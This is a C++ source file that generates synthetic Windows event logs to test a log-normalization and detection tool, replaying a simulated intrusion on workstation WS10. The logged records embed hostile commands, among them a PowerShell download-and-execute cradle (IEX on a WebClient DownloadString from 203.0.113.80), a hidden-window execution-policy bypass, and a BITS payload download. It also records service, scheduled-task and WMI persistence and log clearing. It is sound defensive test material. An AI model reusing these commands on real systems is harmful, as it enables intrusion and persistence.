#include "windows_logs_scenario.hpp"

#include <algorithm>
#include <map>

#include "other_log_events.hpp"

namespace evtxcar::testdata {

namespace {

constexpr const char* ws10 = "WS10.corp.example.com";
constexpr const char* attacker_address = "198.51.100.44";
constexpr const char* helpdesk_sid = "S-1-5-21-3623811015-3361044348-30300820-1142";
constexpr std::uint32_t powershell_pid = 7412;

// The logs of WS10, one file per channel, told in any order and written in
// time order.
class log_book {
public:
    void add(const std::string& file, windows_event event, std::string case_description,
             std::vector<std::string> detections = {}) {
        records_[file].push_back({std::move(event), std::move(case_description), std::move(detections)});
    }

    std::vector<scenario_record> records(const std::string& file) const {
        std::vector<scenario_record> records = records_.at(file);
        std::stable_sort(records.begin(), records.end(), [](const scenario_record& a, const scenario_record& b) {
            return a.event.system.time_created < b.event.system.time_created;
        });
        return records;
    }

private:
    std::map<std::string, std::vector<scenario_record>> records_;
};

filetime at(unsigned hour, unsigned minute, unsigned second, unsigned millisecond = 0) {
    return evtx_writer::to_filetime({2026, 4, 14, hour, minute, second, 0}) + millisecond * evtx_writer::ticks_per_millisecond;
}

constexpr const char* system_log = "System.evtx";
constexpr const char* security_log = "Security.evtx";
constexpr const char* powershell_log = "Microsoft-Windows-PowerShell%4Operational.evtx";
constexpr const char* classic_powershell_log = "Windows PowerShell.evtx";
constexpr const char* defender_log = "Microsoft-Windows-Windows Defender%4Operational.evtx";
constexpr const char* task_log = "Microsoft-Windows-TaskScheduler%4Operational.evtx";
constexpr const char* wmi_log = "Microsoft-Windows-WMI-Activity%4Operational.evtx";
constexpr const char* remote_connection_log =
    "Microsoft-Windows-TerminalServices-RemoteConnectionManager%4Operational.evtx";
constexpr const char* local_session_log = "Microsoft-Windows-TerminalServices-LocalSessionManager%4Operational.evtx";
constexpr const char* rdp_core_log = "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS%4Operational.evtx";
constexpr const char* firewall_log = "Microsoft-Windows-Windows Firewall With Advanced Security%4Firewall.evtx";
constexpr const char* bits_log = "Microsoft-Windows-Bits-Client%4Operational.evtx";

// The classic log's context lines ("\tKey=Value"), as PowerShell writes them.
std::string classic_context(const std::vector<std::pair<std::string, std::string>>& pairs) {
    std::string text;
    for (const auto& [key, value] : pairs) {
        if (!text.empty()) text += "\r\n";
        if (!key.empty()) text += "\t" + key + "=" + value;
    }
    return text;
}

// 4103's ContextInfo ("        Key = Value").
std::string module_context(const std::vector<std::pair<std::string, std::string>>& pairs) {
    std::string text;
    for (const auto& [key, value] : pairs) text += "        " + key + " = " + value + "\r\n";
    return text;
}

void rdp_logon(log_book& book) {
    book.add(rdp_core_log, rdp_connection_accepted(ws10, at(9, 12, 1), std::string(attacker_address) + ":51123"),
             "RdpCoreTS 131: a TCP connection from outside (generic event, catalog message)");
    book.add(remote_connection_log, rdp_listener_connection(ws10, at(9, 12, 1, 40)),
             "RemoteConnectionManager 261: the RDP listener received a connection (generic, UserData)");
    book.add(remote_connection_log, rdp_user_authenticated(ws10, at(9, 12, 6), "helpdesk", "CORP", attacker_address),
             "RemoteConnectionManager 1149: RDP authentication of CORP\\helpdesk from 198.51.100.44: user_session/login, "
             "login_type 10");
    book.add(local_session_log, local_session_event(ws10, at(9, 12, 8), 21, "CORP\\helpdesk", 3, attacker_address),
             "LocalSessionManager 21: session 3 logon from 198.51.100.44: user_session/login, login_type 10");
    book.add(local_session_log, local_session_event(ws10, at(9, 12, 9), 22, "CORP\\helpdesk", 3, attacker_address),
             "LocalSessionManager 22: shell start: user_session/shell_start");
}

void powershell_downgrade(log_book& book) {
    // PowerShell 2.0 writes no HostApplication.
    const std::vector<std::pair<std::string, std::string>> engine_v2 = {
        {"NewEngineState", "Available"}, {"PreviousEngineState", "None"}, {"", ""}, {"SequenceNumber", "9"},
        {"", ""}, {"HostName", "ConsoleHost"}, {"HostVersion", "2.0"},
        {"HostId", "5cbb33bf-acf7-47cc-9242-141cd0ba9f0c"}, {"EngineVersion", "2.0"},
        {"RunspaceId", "c6e94dca-0daf-418c-860a-f751a9f2cbe1"}, {"PipelineId", ""}, {"CommandName", ""},
        {"CommandType", ""}, {"ScriptName", ""}, {"CommandPath", ""}, {"CommandLine", ""}};
    book.add(classic_powershell_log,
             windows_powershell(ws10, at(9, 14, 2), 600,
                                {"Registry", "Started",
                                 classic_context({{"ProviderName", "Registry"}, {"NewProviderState", "Started"},
                                                  {"", ""}, {"SequenceNumber", "1"}, {"", ""},
                                                  {"HostName", "ConsoleHost"}, {"HostVersion", "2.0"},
                                                  {"HostId", "5cbb33bf-acf7-47cc-9242-141cd0ba9f0c"},
                                                  {"EngineVersion", ""}, {"RunspaceId", ""}, {"PipelineId", ""},
                                                  {"CommandName", ""}, {"CommandType", ""}, {"ScriptName", ""},
                                                  {"CommandPath", ""}, {"CommandLine", ""}})}),
             "Windows PowerShell 600: provider Registry started (PowerShell 2.0 layout): script/provider_start");
    book.add(classic_powershell_log,
             windows_powershell(ws10, at(9, 14, 2, 15), 400, {"Available", "None", classic_context(engine_v2)}),
             "Windows PowerShell 400: engine 2.0 started, a downgrade (no HostApplication in 2.0): script/engine_start");
    book.add(classic_powershell_log,
             windows_powershell(ws10, at(9, 14, 3), 600, {"Alias", "Started", ""}),
             "Windows PowerShell 600 without its context: a normalization warning, the provider and state kept");

    const std::string host_application = "powershell.exe -nop -w hidden -ep bypass -f C:\\Users\\helpdesk\\AppData\\Local\\Temp\\stage.ps1";
    book.add(classic_powershell_log,
             windows_powershell(
                 ws10, at(9, 14, 30), 800,
                 {"Invoke-WebRequest -Uri http://203.0.113.80/a.ps1 -OutFile a.ps1",
                  classic_context({{"DetailSequence", "1"}, {"DetailTotal", "1"}, {"", ""}, {"SequenceNumber", "21"},
                                   {"", ""}, {"UserId", "CORP\\helpdesk"}, {"HostName", "ConsoleHost"},
                                   {"HostVersion", "5.1.19041.1682"}, {"HostId", "0b7c6b5e-2a8e-4c7e-9d6c-3f1e2a9b8c01"},
                                   {"HostApplication", host_application}, {"EngineVersion", "5.1.19041.1682"},
                                   {"RunspaceId", "8d2f4a61-9b0e-4f57-a1c3-6e7d8c9b0a12"}, {"PipelineId", "3"},
                                   {"ScriptName", "C:\\Users\\helpdesk\\AppData\\Local\\Temp\\stage.ps1"},
                                   {"CommandLine", "Invoke-WebRequest -Uri http://203.0.113.80/a.ps1 -OutFile a.ps1"}}),
                  "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\nParameterBinding(Invoke-WebRequest): "
                  "name=\"Uri\"; value=\"http://203.0.113.80/a.ps1\"\r\nParameterBinding(Invoke-WebRequest): "
                  "name=\"OutFile\"; value=\"a.ps1\"\r\n"}),
             "Windows PowerShell 800: pipeline execution details: script/invoke with HostApplication as command_line");

    const std::string block_id = "{4c1f3a9e-7d2b-4e8f-a5c6-1b2d3e4f5a6b}";
    const std::string stage = "C:\\Users\\helpdesk\\AppData\\Local\\Temp\\stage.ps1";
    script_block first{1, 2, "$u = 'http://203.0.113.80/a.ps1'\r\n$c = New-Object Net.WebClient\r\n", block_id, stage};
    script_block second{2, 2, "IEX ($c.DownloadString($u))\r\n# end of stage.ps1", block_id, stage};
    book.add(powershell_log, powershell_script_block(ws10, at(9, 14, 20), powershell_pid, helpdesk_sid, first),
             "PowerShell 4104: script block part 1 of 2 from a file: script/block");
    book.add(powershell_log, powershell_script_block(ws10, at(9, 14, 20, 5), powershell_pid, helpdesk_sid, second),
             "PowerShell 4104: script block part 2 of 2");
    script_block interactive{1, 1, "whoami /all", "{9e8d7c6b-5a4f-4e3d-8c2b-1a0f9e8d7c6b}", "", false};
    book.add(powershell_log, powershell_script_block(ws10, at(9, 15, 2), powershell_pid, helpdesk_sid, interactive),
             "PowerShell 4104 in a PowerShell 4.0 host's layout (no Path field): script/block without script_path");
    book.add(powershell_log,
             powershell_module_logging(
                 ws10, at(9, 14, 31), powershell_pid, helpdesk_sid,
                 module_context({{"Severity", "Informational"}, {"Host Name", "ConsoleHost"},
                                 {"Host Version", "5.1.19041.1682"}, {"Host ID", "0b7c6b5e-2a8e-4c7e-9d6c-3f1e2a9b8c01"},
                                 {"Host Application", host_application}, {"Engine Version", "5.1.19041.1682"},
                                 {"Runspace ID", "8d2f4a61-9b0e-4f57-a1c3-6e7d8c9b0a12"}, {"Pipeline ID", "3"},
                                 {"Command Name", "Invoke-WebRequest"}, {"Command Type", "Cmdlet"},
                                 {"Script Name", stage}, {"Command Path", ""}, {"Sequence Number", "22"},
                                 {"User", "CORP\\helpdesk"}, {"Connected User", ""},
                                 {"Shell ID", "Microsoft.PowerShell"}}),
                 "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\nParameterBinding(Invoke-WebRequest): "
                 "name=\"Uri\"; value=\"http://203.0.113.80/a.ps1\""),
             "PowerShell 4103: module logging of Invoke-WebRequest: script/invoke");
    std::vector<std::pair<std::string, std::string>> engine_stop = engine_v2;
    engine_stop[0] = {"NewEngineState", "Stopped"};
    engine_stop[1] = {"PreviousEngineState", "Available"};
    book.add(classic_powershell_log,
             windows_powershell(ws10, at(9, 16, 0), 403, {"Stopped", "Available", classic_context(engine_stop)}),
             "Windows PowerShell 403: engine 2.0 stopped: script/engine_stop");
}

void defender_detection(log_book& book) {
    defender_threat threat;
    threat.detection_id = "{2C5E8A41-93F0-4B6D-8E21-7A9C0D3B5F14}";
    threat.detection_time = "2026-04-14T09:14:31.120Z";
    threat.threat_id = "2147725349";
    threat.threat_name = "Trojan:PowerShell/Downloader.X";
    threat.severity_id = "5";
    threat.severity_name = "Severe";
    threat.category_id = "8";
    threat.category_name = "Trojan";
    threat.process_name = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    threat.detection_user = "CORP\\helpdesk";
    threat.path = "file:_C:\\Users\\helpdesk\\AppData\\Local\\Temp\\a.ps1";
    book.add(defender_log, defender_threat_event(ws10, at(9, 14, 32), 1116, threat),
             "Defender 1116: a threat in one file (older layout, Signature Version): malware/detect, the file's path");
    threat.action_id = "2";
    threat.action_name = "%%809";
    threat.remediation_user = "NT AUTHORITY\\SYSTEM";
    threat.intelligence_name = true;
    threat.path = "containerfile:_C:\\Users\\helpdesk\\Downloads\\tools.zip; file:_C:\\Users\\helpdesk\\Downloads\\tools.zip->m.ps1";
    book.add(defender_log, defender_threat_event(ws10, at(9, 14, 40), 1117, threat),
             "Defender 1117: action taken, a container and its member (newer layout, Security intelligence Version): "
             "malware/remediate, the resource list as logged");
    book.add(defender_log,
             defender_configuration_changed(ws10, at(9, 17, 0), "",
                                            "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public = 0x0"),
             "Defender 5007: an exclusion added (generic event, catalog message)");
}

void persistence(log_book& book) {
    book.add(system_log,
             service_installed(ws10, at(9, 20, 0), "WinUpdSvc", "C:\\Users\\Public\\svchost.exe -k netsvcs",
                               "LocalSystem"),
             "System 7045: a service runs a program from C:\\Users\\Public: service/create, exe svchost.exe",
             {"CAR-2013-09-005:logpoint", "CAR-2021-05-012:splunk"});
    book.add(system_log, service_entered_state(ws10, at(9, 20, 2), "WinUpdSvc", "running", "WinUpdSvc", 4),
             "System 7036 with state code 4: service/start, key name from the binary data");
    book.add(system_log,
             service_failed_to_start(ws10, at(9, 20, 40), "Remote Registry", "%%1058", "RemoteRegistry"),
             "System 7000: a service failed to start (generic event, binary data)");
    book.add(system_log, service_entered_state(ws10, at(9, 21, 0), "Remoteregistrierung", "wird ausgeführt",
                                               "RemoteRegistry", 0),
             "System 7036 in German without a state code: service/state_change and a normalization warning");

    const std::string task = "\\Microsoft\\Windows\\WinUpd";
    const std::string action = "C:\\Users\\Public\\upd.exe";
    book.add(task_log, task_registered(ws10, at(9, 22, 0), task, "CORP\\helpdesk"),
             "TaskScheduler 106: task registered: scheduled_task/create");
    book.add(task_log, task_action_started(ws10, at(9, 23, 0), task, action, "winupd run 1", 3308),
             "TaskScheduler 200 (version 1): action started: scheduled_task/start");
    book.add(task_log, task_process_created(ws10, at(9, 23, 0, 20), task, action, 5124),
             "TaskScheduler 129: task process created (generic event)");
    book.add(task_log, task_action_completed(ws10, at(9, 23, 9), task, action, "winupd run 1", 0, 3308),
             "TaskScheduler 201 (version 2): action completed with result 0: scheduled_task/complete");
    book.add(task_log, task_registration_changed(ws10, at(9, 24, 0), 140, task, "CORP\\helpdesk"),
             "TaskScheduler 140: task updated: scheduled_task/update");

    const std::string cause =
        "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n"
        "\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"WinUpdFilter\";\n"
        "\tQuery = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
        "\\\"Win32_PerfFormattedData_PerfOS_System\\\"\";\n\tQueryLanguage = \"WQL\";\n};\n"
        "Perm. Consumer: \ninstance of CommandLineEventConsumer\n{\n"
        "\tCommandLineTemplate = \"C:\\\\Users\\\\Public\\\\upd.exe -s\";\n"
        "\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tName = \"WinUpdConsumer\";\n};\n";
    book.add(wmi_log, wmi_provider_started(ws10, at(9, 25, 0), "CIMWin32", 3020, "%systemroot%\\system32\\wbem\\cimwin32.dll"),
             "WMI-Activity 5857: a provider loaded (generic event, UserData)");
    book.add(wmi_log,
             wmi_consumer_binding(ws10, at(9, 25, 10), "//./root/subscription", "WinUpdFilter",
                                  "CommandLineEventConsumer=\"WinUpdConsumer\"", cause),
             "WMI-Activity 5861: a permanent consumer bound to a filter: wmi/binding, query and command line from "
             "PossibleCause");
    book.add(firewall_log,
             firewall_rule_added(ws10, at(9, 26, 0), "WinUpd inbound", "C:\\Users\\Public\\upd.exe", helpdesk_sid,
                                 "C:\\Windows\\System32\\netsh.exe"),
             "Firewall 2004: an inbound rule added (generic event, numbers and a SID)");
    book.add(bits_log,
             bits_transfer_started(ws10, at(9, 27, 0), "WinUpd", "http://203.0.113.80/upd.exe", at(9, 0, 0), 73728),
             "Bits-Client 59: a download started (generic event, GUIDs, FILETIME, UInt64)");
}

void cover_tracks(log_book& book) {
    book.add(task_log, task_registration_changed(ws10, at(9, 39, 0), 141, "\\Microsoft\\Windows\\WinUpd", "CORP\\helpdesk"),
             "TaskScheduler 141: task deleted: scheduled_task/delete");
    book.add(system_log,
             system_time_changed(ws10, at(9, 39, 30), at(8, 39, 30), at(9, 39, 30, 12), 2),
             "Kernel-General 1: the clock set back an hour (generic event, FILETIMEs)");
    book.add(system_log,
             system_log_cleared(ws10, at(9, 40, 0), helpdesk_sid, "helpdesk", "CORP", "System", ""),
             "System 104: the System log cleared: log/clear, log_name System", {"CAR-2016-04-002:cleared"});
    const account helpdesk = {helpdesk_sid, "helpdesk", "CORP", 0x7A11C3};
    book.add(security_log, security_log_cleared(ws10, at(9, 40, 5), helpdesk),
             "Security 1102: the Security log cleared: log/clear, log_name Security", {"CAR-2016-04-002:cleared"});
    book.add(local_session_log, local_session_event(ws10, at(9, 41, 0), 24, "CORP\\helpdesk", 3, attacker_address),
             "LocalSessionManager 24: session disconnected: user_session/disconnect");
    book.add(local_session_log, local_session_event(ws10, at(9, 44, 0), 25, "CORP\\helpdesk", 3, attacker_address),
             "LocalSessionManager 25: session reconnected: user_session/reconnect");
    book.add(local_session_log, local_session_event(ws10, at(9, 48, 0), 23, "CORP\\helpdesk", 3, ""),
             "LocalSessionManager 23: logoff (no Address): user_session/logout");
    book.add(local_session_log, local_session_event(ws10, at(9, 55, 0), 21, "CORP\\jdoe", 1, "LOCAL"),
             "LocalSessionManager 21 at the console (Address LOCAL): user_session/login, no src_ip nor login_type");
}

void benign_morning(log_book& book) {
    book.add(system_log,
             service_start_type_changed(ws10, at(8, 0, 0), "Background Intelligent Transfer Service", "demand start",
                                        "auto start", "BITS"),
             "System 7040: start type changed: service/modify");
    book.add(system_log,
             service_entered_state(ws10, at(8, 0, 1), "Background Intelligent Transfer Service", "running", "BITS", 4),
             "System 7036: BITS running: service/start");
    book.add(system_log,
             service_entered_state(ws10, at(8, 5, 0), "Background Intelligent Transfer Service", "stopped", "BITS", 1),
             "System 7036: BITS stopped: service/stop");
}

}  // namespace

std::vector<scenario_file> windows_logs_files() {
    log_book book;
    benign_morning(book);
    rdp_logon(book);
    powershell_downgrade(book);
    defender_detection(book);
    persistence(book);
    cover_tracks(book);
    const std::string host = "windows-logs/WS10/";
    return {
        log_file(host + system_log, "services (7045, 7036 with state codes, 7040, 7000), the clock (Kernel-General 1), "
                                     "the System log cleared (104)", book.records(system_log), 48210),
        log_file(host + security_log, "the Security log cleared (1102, UserData)", book.records(security_log), 1),
        log_file(host + powershell_log, "script blocks (4104 in two parts; the layout without Path), module logging (4103)",
                 book.records(powershell_log), 3100),
        log_file(host + classic_powershell_log,
                 "the classic log's unnamed data: a downgrade to PowerShell 2.0 (400, 403, 600), pipeline details (800)",
                 book.records(classic_powershell_log), 512),
        log_file(host + defender_log, "a threat detected and remediated (1116, 1117; both layouts), an exclusion (5007)",
                 book.records(defender_log), 220),
        log_file(host + task_log, "a scheduled task registered, run, updated and deleted (106, 200, 129, 201, 140, 141)",
                 book.records(task_log), 9001),
        log_file(host + wmi_log, "a WMI consumer bound to a filter (5861), a provider loaded (5857)",
                 book.records(wmi_log), 77),
        log_file(host + remote_connection_log, "RDP authentication (1149) and a listener connection (261)",
                 book.records(remote_connection_log), 640),
        log_file(host + local_session_log, "RDP and console sessions: logon, shell, disconnect, reconnect, logoff (21-25)",
                 book.records(local_session_log), 1200),
        log_file(host + rdp_core_log, "an RDP connection accepted (131)", book.records(rdp_core_log), 4410),
        log_file(host + firewall_log, "a firewall rule added (2004)", book.records(firewall_log), 33),
        log_file(host + bits_log, "a BITS download started (59)", book.records(bits_log), 150),
    };
}

}  // namespace evtxcar::testdata
